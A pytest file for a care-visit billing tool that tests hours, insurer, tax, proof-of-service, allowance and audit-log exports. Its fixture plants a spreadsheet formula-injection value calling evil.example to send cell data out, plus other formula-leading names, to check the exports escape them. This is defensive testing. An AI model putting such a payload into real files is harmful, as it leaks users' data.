"""Auditor exports: hours (for treasurer, insurer, tax office), proof of service PDF, allowances, audit log."""

import csv
import re
from datetime import UTC, date, datetime, timedelta

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from carecal import clock, db
from carecal.billing import audiences, invoicing, records
from carecal.weeks import IsoWeek
from tests import factories as f

AFTER = datetime(2026, 12, 15, tzinfo=UTC)
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"klick")'


@pytest.fixture(autouse=True)
def after_the_visits():
    with clock.frozen(AFTER, tick=timedelta(microseconds=1)):
        yield


@pytest.fixture
def month(db_url):
    """November 2026: two clients (one with a formula in her name), three visits, billed."""
    with db.session_scope(db_url) as s:
        org = f.organisation(s)
        f.billing_rates(s, org)
        natalia = f.volunteer(s, first_name="Natalia", last_name="Wolkowa")
        expired = f.volunteer(
            s, first_name="Jurij", last_name="Gagarin", trainings=(("basic", date(2022, 1, 1), date(2026, 6, 30)),)
        )
        olga = f.client(s, first_name="Olga", last_name="Schmidt", benefits_assigned_on=date(2026, 1, 1))
        evil = f.client(s, first_name="-1+2", last_name=EVIL_NAME, insurer_name="BARMER", insurer_ik="104940005")
        first = f.published_visit(s, "2026-W45", f.care_request(s, olga), natalia, day="tue")
        second = f.published_visit(s, "2026-W46", olga.requests[0], expired, day="wed", start="09:30")
        shopping = f.activity(s, "shopping", {"de": "@Einkaufen begleiten"})  # a label is text too
        third = f.published_visit(s, "2026-W46", f.care_request(s, evil, activity_key=shopping.key), natalia, day="thu")
        records.record_visit(
            s,
            second.id,
            "anna",
            status="delivered",
            activity=f.activity(s, "reading", {"de": "Vorlesen aus der Zeitung"}).key,
            signature="none",
            signature_reason="Klientin schlief",
        )
        for week in ("2026-W45", "2026-W46"):
            records.confirm_week(s, IsoWeek.parse(week), "anna")
        invoicing.run_month(s, "2026-11", "treasurer", issued_on=date(2026, 12, 1))
        return {"olga": olga.external_id, "evil": evil.external_id, "visits": [first.id, second.id, third.id]}


def read_csv(path):
    with path.open(encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_hours_has_one_row_per_visit_with_times_in_local_time(cli, month, tmp_path):
    out = tmp_path / "hours.csv"
    assert cli("export", "hours", "--month", "2026-11", "-o", out).exit_code == 0
    rows = read_csv(out)
    assert [int(r["visit"]) for r in rows] == month["visits"]
    first, second, _ = rows
    assert (first["date"], first["start"], first["end"], first["minutes"]) == ("2026-11-03", "14:00", "16:00", "120")
    assert first["client"] == "Olga Schmidt" and first["insurer"] == "AOK PLUS" and first["care_grade"] == "3"
    assert (first["funding"], first["unit_price_eur"], first["amount_eur"]) == ("§45b", "18.00", "36.00")
    assert first["invoice"] == "2026-0001" and first["signature"] == "client" and first["created_by"] == "anna"
    assert second["training_valid"] == "NO" and second["signature"] == "none: Klientin schlief"
    assert second["activity"] == "Vorlesen aus der Zeitung" and second["start"] == "09:30"


def test_a_formula_in_a_name_is_written_as_text(cli, month, tmp_path):
    assert cli("export", "hours", "--month", "2026-11", "-o", tmp_path / "h.csv").exit_code == 0
    evil_row = read_csv(tmp_path / "h.csv")[2]
    assert evil_row["client"] == "'-1+2 " + EVIL_NAME
    assert evil_row["activity"] == "'@Einkaufen begleiten"

    assert cli("export", "hours", "--month", "2026-11", "--format", "xlsx", "-o", tmp_path / "h.xlsx").exit_code == 0
    sheet = load_workbook(tmp_path / "h.xlsx").active
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=4, column=header.index("client") + 1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("-1+2 " + EVIL_NAME, "s", True)
    amount = sheet.cell(row=2, column=header.index("amount_eur") + 1)
    assert amount.value == 36 and amount.data_type == "n"


def test_the_insurers_hours_are_pseudonymous_and_stable(cli, month, tmp_path, monkeypatch):
    insurer = ["export", "hours", "--month", "2026-11", "--for", "insurer"]
    monkeypatch.delenv("CARECAL_PSEUDONYM_KEY", raising=False)
    monkeypatch.delenv("CARECAL_PSEUDONYM_KEY_FILE", raising=False)
    assert "needs --insurer" in cli(*insurer).stderr
    no_key = cli(*insurer, "--insurer", "AOK PLUS")
    assert no_key.exit_code == 2 and "pseudonym-key" in no_key.stderr
    monkeypatch.setenv("CARECAL_PSEUDONYM_KEY", "s3cret")
    weak = cli(*insurer, "--insurer", "AOK PLUS")
    assert weak.exit_code == 2 and "32 random bytes" in weak.stderr and "s3cret" not in weak.stderr

    key_file = tmp_path / "key"
    assert cli("export", "pseudonym-key", "-o", key_file).exit_code == 0
    assert cli("export", "pseudonym-key", "-o", key_file).exit_code == 2  # never overwritten
    for name in ("a.csv", "b.csv"):
        result = cli(*insurer, "--insurer", "aok plus", "--key-file", key_file, "-o", tmp_path / name)
        assert result.exit_code == 0, result.stderr
    a, b = read_csv(tmp_path / "a.csv"), read_csv(tmp_path / "b.csv")
    assert a == b and len(a) == 2  # Olga's two visits; the other client is not insured there
    assert a[0]["client"] == a[1]["client"] and re.fullmatch(r"C-[0-9a-f]{32}", a[0]["client"])
    assert list(a[0]) == audiences.INSURER_COLUMNS
    assert {(r["month"], r["minutes"], r["amount_eur"], r["signature"]) for r in a} == {
        ("2026-11", "120", "36.00", "signed"),
        ("2026-11", "120", "36.00", "none"),
    }
    text = (tmp_path / "a.csv").read_text(encoding="utf-8")
    for secret in ("Olga", "Schmidt", "Natalia", "Wolkowa", "Klientin schlief", "Vorlesen", "2026-0001", "AOK"):
        assert secret not in text

    other_key = tmp_path / "other-key"
    cli("export", "pseudonym-key", "-o", other_key)
    cli(*insurer, "--insurer", "AOK PLUS", "--key-file", other_key, "-o", tmp_path / "c.csv")
    assert read_csv(tmp_path / "c.csv")[0]["client"] != a[0]["client"]
    unknown = cli(*insurer, "--insurer", "Nowhere", "--key-file", key_file)
    assert unknown.exit_code == 3 and "AOK PLUS" in unknown.stderr


def test_the_tax_office_gets_totals_with_nobody_in_them(cli, month, tmp_path):
    out = tmp_path / "tax.csv"
    assert cli("export", "hours", "--month", "2026-11", "--for", "tax-office", "-o", out).exit_code == 0
    assert read_csv(out) == [
        {
            "month": "2026-11",
            "category": "betreuung",
            "funding": "§45b",
            "unit_price_eur": "18.00",
            "visits": "3",
            "hours": "6.00",
            "amount_eur": "108.00",
        }
    ]


def test_the_proof_of_service_pdf_has_every_visit_line(cli, month, tmp_path):
    result = cli("export", "proof", "--month", "2026-11", "--client", month["olga"], "--out", tmp_path)
    assert result.exit_code == 0
    path = tmp_path / f"leistungsnachweis_2026-11_{month['olga']}.pdf"
    text = " ".join(" ".join(page.extract_text() for page in PdfReader(path).pages).split())
    for expected in (
        "Leistungsnachweis 11/2026",
        "Olga Schmidt",
        "09.05.1941",
        "AOK PLUS",
        "Pflegegrad: 3",
        "01.11.2026 bis 30.11.2026",
        "Brücke Chemnitz e. V.",
        "461234567",
        "§ 45a SGB XI",
        "§ 45b SGB XI",
        "Unterschrift Klient/in (Olga Schmidt)",
    ):
        assert expected in text, expected
    for line in ("03.11.2026 14:00 16:00 120 Natalia Wolkowa", "11.11.2026 09:30 11:30 120 Jurij Gagarin"):
        assert line in text, line
    assert text.count("36,00 €") >= 2 and "keine: Klientin schlief" in text
    assert "Summe: 2 Besuche, 4 Std. 0 Min., 72,00 €" in text


def test_proofs_for_all_clients(cli, month, tmp_path, db_url):
    assert cli("export", "proof", "--month", "2026-11", "--out", tmp_path).exit_code == 0
    assert sorted(p.name for p in tmp_path.glob("*.pdf")) == sorted(
        f"leistungsnachweis_2026-11_{c}.pdf" for c in (month["olga"], month["evil"])
    )
    assert cli("export", "proof", "--month", "2026-10", "--client", month["olga"], "--out", tmp_path).exit_code == 3


def test_allowances_warn_near_and_over_the_tax_free_limit(cli, db_url, tmp_path):
    with db.session_scope(db_url) as s:
        org = f.organisation(s)
        f.rate(s, org, "allowance_per_hour", 900, date(2024, 1, 1))
        f.rate(s, org, "tax_free_limit_year", 4000, date(2030, 1, 1), key="3_26")  # a tiny limit, to reach it
        busy, calm = f.volunteer(s, last_name="Fleißig"), f.volunteer(s, last_name="Ruhig")
        request = f.care_request(s, f.client(s), windows=(("mon", "08:00", "20:00"),))
        with clock.frozen(datetime(2030, 12, 1, tzinfo=UTC)):
            for week, volunteer in (("2030-W02", busy), ("2030-W03", busy), ("2030-W04", calm)):
                visit = f.published_visit(s, week, request, volunteer, day="mon")
                records.record_visit(s, visit.id, "anna", status="delivered")
        ids = busy.external_id, calm.external_id
    result = cli("export", "allowances", "--year", "2030", "-o", tmp_path / "a.csv")
    assert result.exit_code == 0, result.stderr
    rows = {r["volunteer_id"]: r for r in read_csv(tmp_path / "a.csv")}
    # 2 h at 9 €/h per visit; the limit is 40 €
    assert (rows[ids[0]]["hours"], rows[ids[0]]["allowance_eur"], rows[ids[0]]["share_of_limit"]) == (
        "4.00",
        "36.00",
        "0.900",
    )
    assert rows[ids[0]]["warning"] == "near the tax-free limit" and rows[ids[1]]["warning"] == ""
    assert "near the tax-free limit" in " ".join(result.stderr.split())
    assert cli("export", "allowances", "--year", "26").exit_code == 2


def test_audit_log_export_filters_by_local_day(cli, month, tmp_path):
    assert cli("export", "audit-log", "-o", tmp_path / "all.csv").exit_code == 0
    actions = [r["action"] for r in read_csv(tmp_path / "all.csv")]
    assert "visit.record" in actions and "visit.confirm" in actions and "billing.run" in actions
    assert (
        cli("export", "audit-log", "--from", "2001-01-01", "--to", "2001-12-31", "-o", tmp_path / "none.csv").exit_code
        == 0
    )
    assert read_csv(tmp_path / "none.csv") == []
    assert cli("export", "audit-log", "--from", "yesterday").exit_code == 2
